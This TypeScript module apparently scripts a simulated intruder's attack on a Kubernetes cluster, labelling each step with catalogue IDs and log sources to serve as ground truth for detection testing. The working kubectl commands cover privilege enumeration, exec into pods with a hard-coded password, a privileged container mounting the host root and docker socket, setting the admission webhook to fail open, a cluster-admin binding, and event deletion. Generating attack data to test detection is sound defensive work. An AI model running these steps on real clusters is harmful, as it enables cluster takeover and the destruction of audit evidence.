/** The intruder's steps through the Kubernetes API server, with what each is and where it is to be seen. */
import { image } from './estate.ts'
import type { Estate } from './estate.ts'
import type { Attack } from './ground-truth.ts'
import { argv, pause } from './people.ts'

const audit = 'kubernetes-audit'
const engine = 'docker-engine'
const base = image('platform/base', '1.35')

export function askRights(attack: Attack, { mallory }: Estate): Promise<void> {
  const what = 'Asks the API server what the stolen credentials may do'
  return attack({ step: 'rights-asked', what, catalogue: ['A03'], sources: [audit] }, async () => {
    await mallory.run(argv`kubectl auth can-i --list -n shop`)
    await mallory.run(argv`kubectl auth can-i create pods -n shop`)
    await mallory.run(argv`kubectl auth can-i * * --all-namespaces`)
    await mallory.run(argv`kubectl auth can-i get secrets -n kube-system`)
  })
}

export function listResources(attack: Attack, { mallory }: Estate): Promise<void> {
  const what = 'Lists kinds of resources across namespaces, most of it denied'
  return attack({ step: 'resources-listed', what, catalogue: ['A01', 'A04'], sources: [audit] }, async () => {
    for (const namespace of ['shop', 'platform', 'kube-system', 'default']) {
      const kinds = argv`pods secrets configmaps serviceaccounts services deployments rolebindings`
      for (const kind of kinds) await mallory.run(argv`kubectl -n ${namespace} get ${kind}`)
    }
    const kinds = argv`nodes namespaces clusterrolebindings validatingwebhookconfigurations`
    for (const kind of kinds) await mallory.run(argv`kubectl get ${kind}`)
    await mallory.run(argv`kubectl get secrets --all-namespaces`)
  })
}

export function useShortLivedPod(attack: Attack, estate: Estate): Promise<void> {
  const { mallory } = estate
  const what = 'Creates a pod, looks around in it, reads its logs and deletes it within three minutes'
  const entities = { namespace: 'shop', pod: 'tmp-7f3a' }
  const facts = { step: 'short-lived-pod', what, catalogue: ['A17', 'B01'], sources: [audit, engine], entities }
  return attack(facts, async () => {
    await mallory.run(argv`kubectl -n shop run tmp-7f3a --image=${base} --restart=Never -- sleep 600`)
    await mallory.run(argv`kubectl -n shop wait --for=condition=ready pod/tmp-7f3a --timeout=60s`)
    const container = estate.container('tmp-7f3a', 'tmp-7f3a')
    const look = 'id; env; cat /proc/1/cgroup; ls -la /var/run/secrets/kubernetes.io/serviceaccount'
    await mallory.run(argv`kubectl -n shop exec tmp-7f3a -- sh -c ${look}`)
    await mallory.run(
      argv`kubectl -n shop exec tmp-7f3a -- sh -c ${'nslookup orders-db.shop.svc; cat /etc/resolv.conf'}`,
    )
    await mallory.run(argv`kubectl -n shop logs tmp-7f3a`)
    await pause(8)
    await mallory.run(argv`kubectl -n shop delete pod tmp-7f3a --grace-period=1`)
    return { container }
  })
}

export function execInService(attack: Attack, estate: Estate, pod: string): Promise<void> {
  const { mallory } = estate
  const what = 'Runs commands in a pod of the running service, by SPDY and by WebSocket, one with a password in it'
  const entities = { namespace: 'shop', pod, container: estate.container(pod, 'web') }
  return attack({ step: 'exec-in-service', what, catalogue: ['B01'], sources: [audit, engine], entities }, async () => {
    const host = estate.address(estate.pod('shop', 'orders-db'))
    await mallory.run(argv`kubectl -n shop exec ${pod} -- cat /etc/shop/release`)
    await mallory.run(argv`kubectl -n shop exec ${pod} -- db-client --host=${host} --user=shop --password=S0mmer-2026!`)
    await mallory.run(argv`exec-websocket shop ${pod} web sh -c ${'id; ps; ls -la /etc/shop /www'}`)
  })
}

export function forwardDatabase(attack: Attack, estate: Estate): Promise<void> {
  const { mallory } = estate
  const pod = estate.pod('shop', 'orders-db')
  const what = "Forwards a port of her own machine to the database's pod and speaks to it"
  const entities = { namespace: 'shop', pod, container: estate.container(pod, 'db') }
  return attack({ step: 'database-forwarded', what, catalogue: ['B09', 'B10'], sources: [audit], entities }, () =>
    mallory.during(argv`kubectl -n shop port-forward pod/${pod} 15432:5432`, async () => {
      const speak = 'exec 3<>/dev/tcp/127.0.0.1/15432; echo status >&3; timeout 2 cat <&3'
      await mallory.run(argv`bash -c ${speak}`)
    }),
  )
}

/** An ephemeral container by kubectl, then a privileged one by a request of her own. */
export function addEphemeral(attack: Attack, estate: Estate, pod: string): Promise<void> {
  const { mallory } = estate
  const what = 'Adds a debug container to the running service, then a privileged one'
  const entities = { namespace: 'shop', pod }
  const facts = { step: 'ephemeral-added', what, catalogue: ['B12', 'B13', 'A18'], sources: [audit, engine], entities }
  return attack(facts, async () => {
    const options = argv`--image=${base} --target=web --container=debug-1`
    await mallory.run(argv`kubectl -n shop debug ${pod} ${options} -- sh -c ${'ps; sleep 20'}`)
    const path = `/api/v1/namespaces/shop/pods/${pod}/ephemeralcontainers`
    const { output } = await mallory.run(argv`kubectl get --raw ${path}`)
    const listed = JSON.parse(output) as { ephemeralContainers: object[] }
    listed.ephemeralContainers.push({
      name: 'debug-2',
      image: base,
      command: ['sh', '-c', 'cat /proc/1/environ; ls /dev; sleep 20'],
      securityContext: { privileged: true },
      targetContainerName: 'web',
    })
    await mallory.run(argv`kubectl replace --raw ${path} -f -`, { input: JSON.stringify(listed) })
    await pause(8)
    return { container: estate.container(pod, 'debug-2') }
  })
}

/** A pod whose main container is the platform's own image, and whose init container owns the node. */
export async function createPrivilegedInit(attack: Attack, estate: Estate): Promise<string> {
  const pod = 'report-sync'
  const setup = {
    name: 'setup',
    image: base,
    command: ['sleep', '900'],
    securityContext: { privileged: true },
    volumeMounts: [
      { name: 'engine', mountPath: '/var/run/docker.sock' },
      { name: 'host', mountPath: '/host' },
    ],
  }
  const manifest = {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: { name: pod, namespace: 'shop', labels: { app: 'report' } },
    spec: {
      restartPolicy: 'Never',
      terminationGracePeriodSeconds: 1,
      initContainers: [setup],
      containers: [{ name: 'report', image: image('platform/toolbox', '2.1'), command: ['sleep', '900'] }],
      volumes: [
        { name: 'engine', hostPath: { path: '/var/run/docker.sock' } },
        { name: 'host', hostPath: { path: '/' } },
      ],
    },
  }
  const what =
    "Creates a pod of the platform's image, with a privileged init container that mounts node and engine socket"
  const entities = { namespace: 'shop', pod }
  const facts = { step: 'privileged-init', what, catalogue: ['C01', 'C02', 'C06'], sources: [audit, engine], entities }
  await attack(facts, async () => {
    await estate.mallory.run(argv`kubectl create -f -`, { input: JSON.stringify(manifest) })
    await pause(6)
    return { container: estate.container(pod, 'setup') }
  })
  return pod
}

export function weakenGuards(attack: Attack, { mallory }: Estate): Promise<void> {
  const what = 'Lets the admission guard fail open, and takes the pod security label of two namespaces down'
  const entities = { webhook: 'policy-guard', namespace: 'shop' }
  return attack({ step: 'guards-weakened', what, catalogue: ['C25', 'C26'], sources: [audit], entities }, async () => {
    const patch = '[{"op":"replace","path":"/webhooks/0/failurePolicy","value":"Ignore"}]'
    await mallory.run(argv`kubectl patch validatingwebhookconfiguration policy-guard --type=json -p ${patch}`)
    await mallory.run(argv`kubectl label namespace shop --overwrite pod-security.kubernetes.io/enforce=privileged`)
    await mallory.run(argv`kubectl label namespace platform pod-security.kubernetes.io/enforce-`)
  })
}

export function bindClusterAdmin(attack: Attack, { mallory }: Estate): Promise<void> {
  const what = "Binds herself to cluster-admin, and adds the shop's service account to a binding that has it"
  const entities = { clusterrolebinding: 'mallory-on-call', rolebinding: 'platform-owners' }
  return attack({ step: 'cluster-admin-bound', what, catalogue: ['F11'], sources: [audit], entities }, async () => {
    await mallory.run(
      argv`kubectl create clusterrolebinding mallory-on-call --clusterrole=cluster-admin --user=mallory`,
    )
    const subject = '{"kind":"ServiceAccount","name":"report","namespace":"shop"}'
    const patch = `[{"op":"add","path":"/subjects/-","value":${subject}}]`
    await mallory.run(argv`kubectl -n platform patch rolebinding platform-owners --type=json -p ${patch}`)
    await mallory.run(argv`kubectl --as=system:serviceaccount:shop:report -n platform get secrets`)
  })
}

export function deleteEvents(attack: Attack, { mallory }: Estate, pod: string): Promise<void> {
  const what = 'Deletes Kubernetes events, one and then all of a namespace'
  const entities = { namespace: 'shop' }
  return attack({ step: 'events-deleted', what, catalogue: ['G01'], sources: [audit], entities }, async () => {
    const { output } = await mallory.run(argv`kubectl -n shop get events -o name`)
    const event = output.split('\n').find((name) => name.includes(pod)) ?? 'event/none'
    await mallory.run(argv`kubectl -n shop delete ${event}`)
    await mallory.run(argv`kubectl delete --raw /api/v1/namespaces/shop/events`)
  })
}
